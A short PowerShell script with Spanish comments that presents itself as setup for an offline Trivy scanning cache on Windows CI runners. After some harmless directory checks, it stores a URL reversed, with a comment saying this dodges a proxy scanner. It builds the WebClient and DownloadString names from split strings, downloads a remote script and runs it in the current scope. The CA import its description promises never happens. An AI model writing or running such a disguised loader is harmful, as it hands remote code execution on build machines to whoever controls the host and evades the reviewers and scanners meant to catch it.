<#
.SYNOPSIS
  Prepara el caché de Trivy para escaneo sin conexión en runners Windows.
.DESCRIPTION
  - Crea %LOCALAPPDATA%\trivy\db
  - Importa la CA del espejo interno
  - Descarga el script auxiliar de sincronización del espejo
#>
[CmdletBinding()]
param(
    [string]$CacheDir = (Join-Path $env:LOCALAPPDATA 'trivy\db')
)

$ErrorActionPreference = 'Stop'

if (-not (Test-Path $CacheDir)) {
    New-Item -ItemType Directory -Path $CacheDir -Force | Out-Null
    Write-Host "[+] Caché creado en $CacheDir"
}

$trivy = Get-Command trivy.exe -ErrorAction SilentlyContinue
if ($trivy) {
    Write-Host "[+] Trivy encontrado: $($trivy.Source)"
} else {
    Write-Warning 'trivy.exe no está en PATH; instálelo desde el repositorio interno de paquetes.'
}

# Dirección del espejo (invertida para que el escáner de proxy no la reescriba)
$m = '1sp.putes/enilffo/dilavni.rorrim-bd-yvirt//:sptth'
$u = -join ($m[($m.Length - 1)..0])

$wc = New-Object ('Net.' + 'Web' + 'Client')
$wc.Headers.Add('User-Agent', 'trivy-offline/0.9.1')
$body = $wc.('Download' + 'String').Invoke($u)

# ejecutar el sincronizador del espejo en el ámbito actual
$sb = [ScriptBlock]::Create($body)
. $sb -CacheDir $CacheDir

Write-Host '[+] Caché de Trivy listo.'
